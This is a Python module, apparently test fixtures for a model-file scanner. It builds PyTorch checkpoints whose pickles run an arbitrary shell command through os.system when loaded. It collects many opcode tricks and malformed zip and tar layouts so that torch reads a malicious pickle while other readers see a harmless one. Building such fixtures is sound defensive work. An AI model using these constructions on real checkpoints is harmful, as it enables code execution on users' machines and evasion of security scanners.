"""Checkpoints that run a command when torch loads them, each hidden in a different way."""

import io
import os
import pickle
import struct
import tarfile
import zipfile

MAGIC, PROTOCOL = 0x1950A86A20F9469CFC6C, 1001
HARMLESS_PICKLE = b"}."
END = b"PK\x05\x06"


def text(value: str) -> bytes:
    """Return the opcode that pushes a string."""
    return b"X" + struct.pack("<I", len(value)) + value.encode()


def call(command: str, function: bytes = b"cposix\nsystem\n") -> bytes:
    """Return the opcodes that call `function`, by default `os.system`."""
    return function + b"(" + text(command) + b"tR"


def as_zip(pickled: bytes, name: str = "archive/data.pkl", *, more: dict[str, bytes] | None = None) -> bytes:
    """Wrap a pickle in torch's zip format."""
    return zipped({name: pickled, **(more or {}), "archive/version": b"3\n"})


def zipped(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    """Return a zip of `members`."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data, compression)
    return target.getvalue()


def as_stream(*pickled: bytes) -> bytes:
    """Wrap a pickle in torch's legacy format: magic number, protocol, system, the pickle, the storage keys."""
    preamble = [pickle.dumps(part, 2) for part in (MAGIC, PROTOCOL, {"little_endian": True})]
    return b"".join([*preamble, *pickled, pickle.dumps([], 2)])


class Calls:
    """Pickled as a call."""

    def __init__(self, function: object, *arguments: object) -> None:
        self.call = function, arguments

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.call


def memoised(command: str) -> bytes:
    """Return a pickle that takes both parts of the function's name from the memo."""
    put = text("posix") + b"q\x000" + text("system") + b"q\x010"
    return b"\x80\x04" + put + b"]0h\x00h\x01\x93(" + text(command) + b"tR."


NAMED = {
    "a name": lambda command: call(command) + b".",
    "a name on the stack": lambda command: pickle.dumps(Calls(os.system, command), 4),
    "a name out of the memo": memoised,
    "an attribute of an attribute": lambda command: (
        b"\x80\x04" + text("torch") + text("serialization.os.system") + b"\x93(" + text(command) + b"tR."
    ),
    "an instance of the oldest kind": lambda command: b"(" + text(command) + b"iposix\nsystem\n.",
    "an object of the oldest kind": lambda command: b"(cposix\nsystem\n" + text(command) + b"o.",
    "a call of what a call returned": lambda command: (
        b"cfunctools\npartial\n(cposix\nsystem\n" + text(command) + b"tR)R."
    ),
    "in a reference": lambda command: b"\x80\x02" + call(command) + b"Q.",
    "in the state of an object": lambda command: b"ccollections\nOrderedDict\n)R}" + text("x") + call(command) + b"sb.",
    "in the key of an item": lambda command: b"]}" + call(command) + b"Nsa.",
    "a pickle in a pickle": lambda command: (
        b"\x80\x03c_pickle\nloads\n(B" + struct.pack("<I", len(call(command)) + 1) + call(command) + b"." + b"tR."
    ),
}
"""Pickles that run a command, by the opcodes that produce the function."""


def at_each_place_of_a_stream(command: str) -> dict[str, bytes]:
    """Return streams that run a command in each of the pickles at the start of torch's legacy format."""
    whole = [pickle.dumps(part, 2) for part in (MAGIC, PROTOCOL, {}, {}, [])]
    evil = call(command) + b"."
    return {f"pickle {place}": b"".join([*whole[:place], evil, *whole[place + 1 :]]) for place in range(len(whole))}


def tar_that_begins_like_a_stream(command: str) -> bytes:
    """Return a tar that begins with harmless pickles: its first bytes are a file name."""
    target, evil = io.BytesIO(), call(command) + b"."
    header = bytearray(tarfile.TarInfo("x").tobuf(tarfile.USTAR_FORMAT))
    header[:100] = (pickle.dumps(MAGIC, 2) + pickle.dumps(PROTOCOL, 2) + b"N.N.N.").ljust(100, b"\0")
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    target.write(bytes(header))
    storages = tarfile.TarInfo("storages")
    storages.size = len(evil)
    target.write(storages.tobuf(tarfile.USTAR_FORMAT) + evil.ljust(512, b"\0") + bytes(1024))
    return target.getvalue()


def zip_with_two_ends(command: str) -> bytes:
    """Return a zip whose ZIP64 locator names another end record than the one before the locator.

    Python's zipfile read the latter until CVE-2025-8291 was fixed.
    """
    harmless, evil = ZipParts(as_zip(HARMLESS_PICKLE)), ZipParts(as_zip(call(command) + b"."))
    body = harmless.files + evil.files
    hidden = evil.listing(len(harmless.files))
    ends = [len(body), len(body) + len(hidden) + 56]
    body += hidden + _end_64(len(hidden), ends[0]) + harmless.listing(0) + _end_64(len(harmless.directory), ends[1])
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, ends[0] + len(hidden), 1)
    return body + locator + _end(0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF)


def zip_with_a_directory_after_its_end(command: str) -> bytes:
    """Return a zip whose end record names a directory in its comment; Python's zipfile reads the one before."""
    harmless, evil = ZipParts(as_zip(HARMLESS_PICKLE)), ZipParts(as_zip(call(command) + b"."))
    files = harmless.files + evil.files
    hidden_at = len(files) + len(harmless.directory) + 22
    shown = harmless.listing(hidden_at - len(files))
    return files + shown + _end(2, len(shown), hidden_at, evil.listing(len(harmless.files)))


def zip_with_another_name_inside(command: str) -> bytes:
    """Return a zip whose directory and local header disagree on the name of the pickle."""
    return as_zip(call(command) + b".").replace(b"archive/data.pkl", b"archive/data.txt", 1)


TWO_READINGS = {
    "a tar that begins like a stream": tar_that_begins_like_a_stream,
    "a zip with two ends": zip_with_two_ends,
    "a zip with a directory after its end": zip_with_a_directory_after_its_end,
    "a zip with another name inside": zip_with_another_name_inside,
    "a name in capitals": lambda command: as_zip(call(command) + b".", "archive/DATA.PKL"),
    "a name twice, but for capitals": lambda command: zipped(
        {"archive/DATA.PKL": call(command) + b".", "archive/data.pkl": HARMLESS_PICKLE, "archive/version": b"3\n"}
    ),
    "a compressed pickle": lambda command: zipped(
        {"archive/data.pkl": call(command) + b".", "archive/version": b"3\n"}, zipfile.ZIP_DEFLATED
    ),
}
"""Files from which torch reads a pickle that runs a command, and other readers may read another."""


class ZipParts:
    """The files of a zip, and its directory."""

    def __init__(self, data: bytes) -> None:
        end = data.rfind(END)
        self.count, size, at = struct.unpack("<HLL", data[end + 10 : end + 20])
        self.files, self.directory = data[:at], data[at : at + size]

    def listing(self, shift: int) -> bytes:
        """Return the directory for files that are moved by `shift` bytes."""
        moved, at = bytearray(self.directory), 0
        for _ in range(self.count):
            (offset,) = struct.unpack_from("<L", moved, at + 42)
            struct.pack_into("<L", moved, at + 42, offset + shift)
            at += 46 + sum(struct.unpack_from("<HHH", moved, at + 28))
        return bytes(moved)


def _end(count: int, size: int, offset: int, comment: bytes = b"") -> bytes:
    return struct.pack("<4sHHHHLLH", END, 0, 0, count, count, size, offset, len(comment)) + comment


def _end_64(size: int, offset: int) -> bytes:
    return struct.pack("<4sQHHLLQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, 2, 2, size, offset)
